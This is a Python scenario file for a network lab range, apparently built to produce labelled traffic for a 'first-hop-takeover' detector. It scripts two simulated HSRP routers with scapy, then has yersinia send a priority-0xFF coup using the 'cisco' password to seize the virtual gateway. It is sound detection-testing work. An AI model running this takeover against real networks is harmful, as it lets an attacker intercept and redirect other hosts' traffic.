"""yersinia takes over a virtual router by HSRP."""

from lab.range import Range
from lab.scenario import Scenario

# Free software speaks no HSRP; this says what two routers say (RFC 2281 section 5).
ROUTER = """
import sys, time
state, priority = int(sys.argv[1]), int(sys.argv[2])
while True:
    sendp(Ether(src=sys.argv[3], dst="01:00:5e:00:00:02") / IP(dst="224.0.0.2", ttl=1)
          / UDP(sport=1985, dport=1985)
          / HSRP(state=state, priority=priority, group=1, virtualIP="10.20.0.254", auth=b"cisco"))
    time.sleep(3)
"""


def run(net: Range) -> None:
    attacker = net.inside("attacker")
    first, second = net.inside("gateway1"), net.inside("gateway2")
    net.everyday()
    prologue = "from scapy.all import *\nconf.verb = 0\nconf.iface = 'eth0'\n" + ROUTER
    first.start("/usr/bin/python3", "-c", prologue, "16", "110", "00:00:0c:07:ac:01")
    second.start("/usr/bin/python3", "-c", prologue, "8", "100", second.mac)
    net.quiet(12)
    with net.attack(
        "first-hop-takeover",
        by=attacker,
        victims=[first, "10.20.0.254"],
        frames="udp port 1985",
        responses="udp port 1985",
    ):
        message = (
            f"yersinia hsrp -attack 0 -ipsource {attacker.ip} -state 10 -priority FF -group 1"
            " -password cisco -ipvirtual 10.20.0.254 -interface eth0"
        )
        # One coup, then hellos; numbers are hexadecimal. It sends one and ends with its input.
        hellos = f"for hello in 1 2 3 4 5; do sleep 1 | {message} -opcode 0; sleep 1; done"
        script = f"sleep 1 | {message} -opcode 1; {hellos}"
        net.tool(attacker, "sh", "-c", script, seconds=25)
    net.quiet(3)


SCENARIO = Scenario(
    name="first-hop-takeover-hsrp",
    about="yersinia becomes the active router of an HSRP group that two routers keep.",
    detectors=("first-hop-takeover",),
    tools={"yersinia": "yersinia"},
    run=run,
)
